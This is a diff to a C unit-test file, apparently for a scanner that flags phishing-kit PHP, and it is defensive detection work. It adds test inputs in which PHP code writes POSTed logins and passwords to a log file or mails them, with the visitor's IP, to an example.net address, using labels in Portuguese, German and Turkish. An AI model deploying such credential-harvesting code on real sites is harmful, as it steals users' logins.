@@ -220,6 +220,17 @@ static void test_labels_name_renamed_fields(void **state)
 	    "$_SERVER['REMOTE_ADDR']);\n"
 	    "mail('box@example.net', 'x', $m);",
 	    HS_SEV_CRITICAL);
+	/* the field named, or labelled, in another language */
+	expect("<?php $fp = fopen('logs/' . date('Ymd') . '.txt', 'a+');\n"
+	       "fwrite($fp, $_POST['login'] . ':' . $_POST['senha'] . ':' . "
+	       "$_SERVER['REMOTE_ADDR'] . \"\\n\");",
+	       HS_SEV_HIGH);
+	expect("<?php mail('box@example.net', 'neu', \"Benutzer: {$_POST['a']}\\nKennwort: "
+	       "{$_POST['b']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");",
+	       HS_SEV_CRITICAL);
+	expect("<?php $m = 'Sifre: ' . $_POST['f2'] . ' IP: ' . getenv('REMOTE_ADDR'); "
+	       "mail('box@example.net', 'x', $m);",
+	       HS_SEV_CRITICAL);
 	/* a word in the middle of a text is not a label; "code" and "PIN" (a postal code)
 	 * alone are not either */
 	quiet("<?php mail('office@example.com', 'order', 'Forgot your password? Call us. ' . "
